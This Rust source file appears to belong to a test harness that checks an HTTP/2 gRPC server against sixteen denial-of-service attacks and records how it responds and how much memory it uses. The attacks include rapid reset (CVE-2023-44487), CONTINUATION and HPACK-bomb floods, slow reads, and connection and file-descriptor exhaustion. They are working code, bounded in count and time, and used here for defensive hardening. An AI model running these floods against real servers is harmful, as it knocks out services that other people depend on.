//! The attacks. Each is bounded in count and time, and returns what the server did and
//! what it holds open (connections the attack keeps while the normal client calls).

use std::any::Any;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::conn::Conn;
use crate::frames::*;

pub type Held = Box<dyn Any + Send>;
pub type Outcome = Result<(String, Held), String>;

const ECHO: &str = "/echo.TestService/Echo";
const ECHO_CLIENT: &str = "/echo.TestService/EchoClient";
const ECHO_SERVER: &str = "/echo.TestService/EchoServer";

/// The attacks in the order they run: (name, what it does).
pub const ALL: &[(&str, &str)] = &[
    (
        "rapid-reset",
        "10,000 server-streaming calls, each reset at once (CVE-2023-44487)",
    ),
    (
        "continuation-flood",
        "HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs, up to 16 MiB",
    ),
    (
        "hpack-bomb",
        "a 4 KiB header indexed once, referenced 1,000 times per block, 100 blocks",
    ),
    ("settings-flood", "50,000 SETTINGS frames"),
    ("ping-flood", "50,000 PINGs, their answers never read"),
    ("empty-data-flood", "50,000 empty DATA frames on one stream"),
    (
        "window-overflow",
        "WINDOW_UPDATEs past 2^31-1 on the connection",
    ),
    (
        "zero-window-streams",
        "SETTINGS_INITIAL_WINDOW_SIZE=0, 2,000 server streams of 100,000 x 64 B, held",
    ),
    (
        "slow-read",
        "the largest windows, 1,000 server streams of 100,000 x 1 KiB, the socket never read",
    ),
    (
        "slow-read-short",
        "the largest windows, 4,000 server streams of 200 x 1 KiB (calls that end at once), \
         the socket never read",
    ),
    (
        "slow-read-connections",
        "the largest windows, 32 connections of 250 server streams of 100,000 x 1 KiB, \
         no socket ever read",
    ),
    (
        "stream-flood",
        "5,000 bidi streams opened on one connection and held",
    ),
    (
        "half-preface",
        "1,000 connections that send half the preface, held",
    ),
    (
        "slow-headers",
        "100 connections sending a request's HEADERS a byte every 50 ms, held \
         (rillrpc's server with a header read timeout of 1 s)",
    ),
    ("connection-flood", "3,000 idle HTTP/2 connections, held"),
    (
        "fd-exhaustion",
        "a server limited to 1,024 open files, 2,000 half-preface connections, held",
    ),
];

/// The open-file limit an attack's server runs with (`None`: the machine's).
pub fn nofile(attack: &str) -> Option<u32> {
    (attack == "fd-exhaustion").then_some(1024)
}

/// What the rillrpc server's answer to an attack must show, beyond the normal call after
/// it: a client pinging without end meets keepalive enforcement, slow headers the header
/// read timeout.
pub fn rill_must(attack: &str) -> Option<&'static str> {
    match attack {
        "ping-flood" => Some("GOAWAY ENHANCE_YOUR_CALM, closed"),
        "slow-headers" => Some("100 of 100 closed"),
        _ => None,
    }
}

/// The most the rillrpc server's peak memory may reach under an attack, in bytes: a client
/// that never reads meets the send budget (64 MiB per connection by default), which keeps
/// what its streams hold near it: at most half of it in the transport, where streams wait
/// for room, and about 2 KiB queued per stream, plus each stream's own state (about 70
/// MiB for the slow read's 1,000 streams, 135 MiB for the 4,000 short calls of its second
/// form, measured). Without the transport's share the server reached 270-330 MiB; without
/// a budget 534 MiB (tonic's: 675 MiB), and the short calls would hold 800 MiB if finished
/// calls left the budget.
pub fn rill_peak_bound(attack: &str) -> Option<u64> {
    match attack {
        "slow-read" | "slow-read-short" => Some(256 << 20),
        // The server's budget (512 MiB by default) over all 32 connections, and each of
        // the 8,000 streams' own state (about 700 MiB, measured). Without the pool of the
        // connections' transports, the queues' room counted and each small batch copied
        // out of its buffer the server reached 1.1-1.6 GiB (tonic's: 2.4-5.2 GiB).
        "slow-read-connections" => Some(1 << 30),
        _ => None,
    }
}

/// The options an attack's server runs with beyond the common ones: slow headers meet
/// rillrpc's header read timeout, shortened from its 30 s default so that the attack ends
/// within seconds (tonic's server has no such timeout).
pub fn server_args(attack: &str, imp: &str) -> &'static [&'static str] {
    match (attack, imp) {
        ("slow-headers", "rill") => &["--header-read-timeout-ms", "1000"],
        _ => &[],
    }
}

pub async fn run(name: &str, addr: &str) -> Outcome {
    match name {
        "rapid-reset" => rapid_reset(addr).await,
        "continuation-flood" => continuation_flood(addr).await,
        "hpack-bomb" => hpack_bomb(addr).await,
        "settings-flood" => flood(addr, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await,
        "ping-flood" => flood(addr, frame(PING, 0, 0, &[7; 8])).await,
        "empty-data-flood" => empty_data_flood(addr).await,
        "window-overflow" => window_overflow(addr).await,
        "zero-window-streams" => zero_window_streams(addr).await,
        "slow-read" => slow_read(addr, 1000, 100_000).await,
        "slow-read-short" => slow_read(addr, 4000, 200).await,
        "slow-read-connections" => slow_read_connections(addr, 32, 250).await,
        "stream-flood" => stream_flood(addr).await,
        "half-preface" => half_preface(addr).await,
        "slow-headers" => slow_headers(addr).await,
        "connection-flood" => connection_flood(addr).await,
        "fd-exhaustion" => fd_exhaustion(addr).await,
        other => Err(format!("no attack {other}")),
    }
}

fn io(e: std::io::Error) -> String {
    e.to_string()
}

/// Sends `frames` in batches of `batch` until all went or the server closed: how many went.
async fn send_all(c: &Conn, frames: impl Iterator<Item = Vec<u8>>, batch: usize) -> usize {
    let mut buf = Vec::new();
    let (mut n, mut queued) = (0, 0);
    for f in frames {
        buf.extend(f);
        queued += 1;
        if queued == batch {
            if !c.send(&buf).await {
                return n;
            }
            n += queued;
            buf.clear();
            queued = 0;
        }
    }
    if queued > 0 && c.send(&buf).await {
        n += queued;
    }
    n
}

async fn settle(c: &Conn) {
    // Time for the server to act on what it read, and for its frames to arrive.
    let _ = c.closed_within(Duration::from_millis(500)).await;
}

fn held(c: Conn) -> Held {
    Box::new(c)
}

async fn rapid_reset(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let body = envelope(&echo_request(&[7; 16], 1000));
    let calls = (0..10_000u32).map(|i| {
        let id = 1 + 2 * i;
        let mut f = open_call(id, ECHO_SERVER);
        f.extend(frame(DATA, END_STREAM, id, &body));
        f.extend(rst_stream(id, CANCEL));
        f
    });
    let n = send_all(&c, calls, 100).await;
    settle(&c).await;
    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
}

async fn continuation_flood(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let mut first = frame(HEADERS, 0, 1, &request_block(ECHO));
    let mut block = Vec::new();
    while block.len() < 16 * 1024 - 64 {
        literal(&mut block, b"x-flood", &[b'a'; 100]);
    }
    first.extend(frame(CONTINUATION, 0, 1, &block));
    c.send(&first).await;
    let n = send_all(&c, (0..1024).map(|_| frame(CONTINUATION, 0, 1, &block)), 16).await;
    settle(&c).await;
    Ok((format!("{n} CONTINUATIONs sent; {}", c.outcome()), held(c)))
}

async fn hpack_bomb(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let blocks = (0..100u32).map(|i| {
        let mut b = request_block(ECHO);
        if i == 0 {
            // Into the dynamic table as entry 62; each later block refers to it.
            literal_indexed(&mut b, b"x-bomb", &[b'b'; 4000]);
        }
        for _ in 0..1000 {
            hpack_int(&mut b, 0x80, 7, 62);
        }
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, &b)
    });
    let n = send_all(&c, blocks, 10).await;
    settle(&c).await;
    Ok((format!("{n} blocks sent; {}", c.outcome()), held(c)))
}

async fn flood(addr: &str, f: Vec<u8>) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let n = send_all(&c, (0..50_000).map(|_| f.clone()), 1000).await;
    settle(&c).await;
    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
}

async fn empty_data_flood(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    c.send(&open_call(1, ECHO_CLIENT)).await;
    let n = send_all(&c, (0..50_000).map(|_| frame(DATA, 0, 1, &[])), 1000).await;
    settle(&c).await;
    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
}

async fn window_overflow(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let mut f = window_update(0, 0x7fff_ffff);
    f.extend(window_update(0, 0x7fff_ffff));
    c.send(&f).await;
    settle(&c).await;
    Ok((c.outcome(), held(c)))
}

async fn zero_window_streams(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
        .await
        .map_err(io)?;
    // The requests are small and go 50 at a time, a few ms apart: within the windows the
    // server grants (HTTP/2's first 65,535 bytes, then its WINDOW_UPDATEs), so that the
    // attack keeps to flow control itself and only the answers stall.
    tokio::time::sleep(Duration::from_millis(100)).await;
    let body = envelope(&echo_request(&[7; 64], 100_000));
    let mut n = 0;
    for batch in 0..40u32 {
        let mut f = Vec::new();
        for i in 0..50 {
            let id = 1 + 2 * (batch * 50 + i);
            f.extend(open_call(id, ECHO_SERVER));
            f.extend(frame(DATA, END_STREAM, id, &body));
        }
        if !c.send(&f).await {
            break;
        }
        n += 50;
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    // The handlers run until their sends wait for a window that never opens.
    tokio::time::sleep(Duration::from_secs(2)).await;
    Ok((format!("{n} opened; {}", c.outcome()), held(c)))
}

/// A client that grants every window it can, opens `streams` server streams asking for
/// `count` answers of 1 KiB each, and never reads: what the server buffers is bounded only
/// by its own limits (the kernel's socket buffers, kept small here, hold a little). With
/// few answers per call the calls end at once, and what they leave is for the server's
/// HTTP/2 library to hold.
async fn slow_read(addr: &str, streams: u32, count: u32) -> Outcome {
    let (n, t) = unread_calls(addr, streams, count).await?;
    // The handlers run until their sends wait.
    tokio::time::sleep(Duration::from_secs(3)).await;
    Ok((format!("{n} opened"), Box::new(t)))
}

/// The slow read spread over `conns` connections of `streams` streams each: what the
/// server holds for each connection stays under that connection's budget, and only the
/// server's budget bounds the whole.
async fn slow_read_connections(addr: &str, conns: u32, streams: u32) -> Outcome {
    let mut all = tokio::task::JoinSet::new();
    for _ in 0..conns {
        let addr = addr.to_owned();
        all.spawn(async move { unread_calls(&addr, streams, 100_000).await });
    }
    let mut held = Vec::new();
    let mut n = 0;
    while let Some(r) = all.join_next().await {
        let (opened, t) = r.map_err(|e| e.to_string())??;
        n += opened;
        held.push(t);
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    Ok((format!("{n} opened on {conns} connections"), Box::new(held)))
}

/// A connection that grants every window it can and opens `streams` server streams asking
/// for `count` answers of 1 KiB each, never to read them: what it opened, and the socket.
async fn unread_calls(addr: &str, streams: u32, count: u32) -> Result<(u32, TcpStream), String> {
    use tokio::io::AsyncReadExt;
    let sock = tokio::net::TcpSocket::new_v4().map_err(io)?;
    sock.set_recv_buffer_size(4096).map_err(io)?;
    let mut t = sock
        .connect(addr.parse().map_err(|e| format!("{addr}: {e}"))?)
        .await
        .map_err(io)?;
    let mut first = PREFACE.to_vec();
    first.extend(settings(&[(SETTINGS_INITIAL_WINDOW_SIZE, i32::MAX as u32)]));
    first.extend(window_update(0, i32::MAX as u32 - 65_535));
    t.write_all(&first).await.map_err(io)?;
    // The server's SETTINGS, acknowledged; nothing is read after it.
    let mut b = [0u8; 9];
    t.read_exact(&mut b).await.map_err(io)?;
    let len = u32::from_be_bytes([0, b[0], b[1], b[2]]) as usize;
    let mut rest = vec![0u8; len];
    t.read_exact(&mut rest).await.map_err(io)?;
    t.write_all(&frame(SETTINGS, ACK, 0, &[]))
        .await
        .map_err(io)?;
    let body = envelope(&echo_request(&[7; 1024], count));
    let mut n = 0;
    for batch in 0..streams / 50 {
        let mut f = Vec::new();
        for i in 0..50 {
            let id = 1 + 2 * (batch * 50 + i);
            f.extend(open_call(id, ECHO_SERVER));
            f.extend(frame(DATA, END_STREAM, id, &body));
        }
        match tokio::time::timeout(Duration::from_secs(2), t.write_all(&f)).await {
            Ok(Ok(())) => n += 50,
            _ => break,
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    Ok((n, t))
}

async fn stream_flood(addr: &str) -> Outcome {
    let c = Conn::open(addr, &[]).await.map_err(io)?;
    let n = send_all(&c, (0..5000u32).map(|i| open_call(1 + 2 * i, ECHO)), 100).await;
    settle(&c).await;
    Ok((format!("{n} opened; {}", c.outcome()), held(c)))
}

async fn half_preface(addr: &str) -> Outcome {
    let mut conns = Vec::new();
    for _ in 0..1000 {
        let mut t = TcpStream::connect(addr).await.map_err(io)?;
        t.write_all(&PREFACE[..12]).await.map_err(io)?;
        conns.push(t);
    }
    Ok(("1000 held".into(), Box::new(conns)))
}

async fn slow_headers(addr: &str) -> Outcome {
    let mut conns = Vec::new();
    for _ in 0..100 {
        conns.push(Conn::open(addr, &[]).await.map_err(io)?);
    }
    // The SETTINGS exchange first: its ACK must not land inside a frame sent a byte at a
    // time.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let headers = open_call(1, ECHO);
    // Two seconds of one byte every 50 ms on every connection; the normal client then
    // calls while they are still open, half-way through their HEADERS.
    for b in headers.iter().take(40) {
        for c in &conns {
            c.send(std::slice::from_ref(b)).await;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let closed: Vec<String> = conns
        .iter()
        .filter(|c| c.seen.closed.load(Ordering::Relaxed))
        .map(|c| c.outcome())
        .collect();
    let first = closed
        .first()
        .map_or(String::new(), |o| format!(" (the first: {o})"));
    Ok((
        format!("{} of 100 closed by the server{first}", closed.len()),
        Box::new(conns),
    ))
}

async fn connection_flood(addr: &str) -> Outcome {
    let mut conns = Vec::new();
    let mut refused = 0;
    for _ in 0..3000 {
        match Conn::open(addr, &[]).await {
            Ok(c) => conns.push(c),
            Err(_) => refused += 1,
        }
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let closed = conns
        .iter()
        .filter(|c| c.seen.closed.load(Ordering::Relaxed))
        .count();
    Ok((
        format!("{} held, {closed} closed, {refused} refused", conns.len()),
        Box::new(conns),
    ))
}

async fn fd_exhaustion(addr: &str) -> Outcome {
    // Connected at once, each within a bound: past the server's file limit, connections
    // wait in its listen backlog, and past the backlog connect itself waits.
    let tries = (0..2000).map(|_| {
        let addr = addr.to_owned();
        tokio::spawn(async move {
            let t = tokio::time::timeout(Duration::from_secs(3), TcpStream::connect(&addr));
            let mut t = t.await.ok()?.ok()?;
            t.write_all(&PREFACE[..12]).await.ok()?;
            Some(t)
        })
    });
    let mut conns = Vec::new();
    for t in tries.collect::<Vec<_>>() {
        if let Ok(Some(c)) = t.await {
            conns.push(c);
        }
    }
    Ok((
        format!("{} of 2000 connected", conns.len()),
        Box::new(conns),
    ))
}
